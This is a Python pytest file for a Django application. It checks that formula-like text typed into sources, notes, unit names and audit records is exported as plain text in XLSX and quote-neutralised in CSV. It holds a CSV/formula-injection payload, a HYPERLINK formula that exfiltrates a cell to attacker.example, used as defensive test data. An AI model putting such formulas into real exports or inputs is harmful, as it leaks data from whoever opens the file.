"""Text that looks like a formula, in every table export: a text cell, exactly as typed.

The attack of issue 9 §6: a data-entry user posts a source ``=HYPERLINK(...)`` through the
API; every XLSX the system writes must show it as text, and the CSV must neutralise it.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import json

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from ntm.audit.services import Actor, Change, record_change
from ntm.criteria.models import CriteriaSet
from ntm.criteria.selectors import get_set
from ntm.criteria.services import load_criteria_sets
from ntm.recognition.models import Recognition
from ntm.testing import COMMUNE_SET, make_ky_anh, make_user, write_sets

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://attacker.example/?d="&B5,"Nguồn")'
TEXTS = (HYPERLINK, "=1+2", "+1", "-1", "@SUM(A1)")
UNIT_NAME = "=Kỳ Lạc"


@pytest.fixture
def world(tmp_path, client):
    load_criteria_sets(write_sets(tmp_path / "sets", COMMUNE_SET))
    units = make_ky_anh()
    clerk = make_user("kylac", role="data_entry", unit=units["ky_lac"])
    client.force_login(clerk)
    ky_lac = units["ky_lac"].pk
    body = {
        "values": [
            {"unit_id": ky_lac, "indicator_key": "test-commune:10", "period": "2021",
             "value": 38.5, "source": HYPERLINK, "note": "=1+2"},
            {"unit_id": ky_lac, "indicator_key": "test-commune:2.1", "period": "2021",
             "numerator": 8, "denominator": 10, "source": "+1", "note": "-1"},
            {"unit_id": ky_lac, "indicator_key": "test-commune:1.1", "period": "2021",
             "is_met": True, "source": "@SUM(A1)"},
        ]
    }  # fmt: skip
    response = client.post("/api/values", json.dumps(body), content_type="application/json")
    assert response.status_code == 200, response.content
    units["ky_lac"].name = UNIT_NAME
    units["ky_lac"].save()
    CriteriaSet.objects.filter(set_id="test-commune").update(name_vi="=Bộ tiêu chí xã")
    Recognition.objects.create(
        unit=units["ky_lac"], tier="standard", criteria_set=get_set("test-commune"),
        decision_number="=1+2", decision_date=dt.date(2021, 10, 1), issuer="@SUM(A1)",
        signer="-1",
    )  # fmt: skip
    client.force_login(make_user("office", role="approver", unit=units["province"]))
    return units


def workbook_of(response):
    assert response.status_code == 200
    return load_workbook(io.BytesIO(response.content))


def assert_texts(workbook, texts) -> None:
    """No formula anywhere; each text is in a text cell, exactly as typed."""
    cells = [c for s in workbook.worksheets for row in s.iter_rows() for c in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    for text in texts:
        found = [c for c in cells if c.value == text]
        assert found, text
        assert {c.data_type for c in found} == {"s"}, text


def test_unit_criteria_export_shows_sources_notes_and_names_as_typed(client, world):
    url = reverse("web:unit-xlsx", args=[world["ky_lac"].id])
    workbook = workbook_of(client.get(url, {"as_of": "2021-12-31", "set": "test-commune"}))
    assert_texts(workbook, [*TEXTS, "=Bộ tiêu chí xã"])
    facts = {r[0]: r[1] for r in workbook.active.iter_rows(min_row=2, max_row=6, values_only=True)}
    assert facts["Đơn vị"] == f"{UNIT_NAME} (18850)"


def test_children_export_shows_unit_names_and_decisions_as_typed(client, world):
    url = reverse("web:unit-children-xlsx", args=[world["district"].id])
    workbook = workbook_of(client.get(url, {"as_of": "2021-12-31", "set": "test-commune"}))
    assert_texts(workbook, [UNIT_NAME, "=1+2", "=Bộ tiêu chí xã"])


def test_recognitions_export_shows_decisions_issuers_and_signers_as_typed(client, world):
    workbook = workbook_of(client.get(reverse("web:recognitions-xlsx")))
    assert_texts(workbook, [UNIT_NAME, "=1+2", "@SUM(A1)", "-1"])


def test_criteria_set_export_shows_the_sets_name_as_typed(client, world):
    url = reverse("web:criteria-set-xlsx", args=["test-commune"])
    workbook = workbook_of(client.get(url))
    assert_texts(workbook, ["=Bộ tiêu chí xã"])
    assert workbook.active["A1"].value == "=Bộ tiêu chí xã"


def test_audit_exports_show_texts_as_typed_in_xlsx_and_neutralised_in_csv(client, world):
    record_change(
        Actor(user=None, channel="system"),
        Change(action="value.create", unit_id=world["ky_lac"].pk, unit_label=UNIT_NAME,
               summary=HYPERLINK, new={"note": "=1+2"}),
        reason="@SUM(A1)",
    )  # fmt: skip
    query = {"unit": world["ky_lac"].pk}
    workbook = workbook_of(client.get("/audit/export.xlsx", query))
    assert_texts(workbook, [HYPERLINK, "@SUM(A1)", UNIT_NAME])
    response = client.get("/audit/export.csv", query)
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    fields = {field for row in csv.reader(io.StringIO(text)) for field in row}
    assert {f"'{HYPERLINK}", "'@SUM(A1)", f"'{UNIT_NAME}"} <= fields
    assert [f for f in fields if f[:1] in ("=", "+", "-", "@", "\t", "\r", "\n")] == []
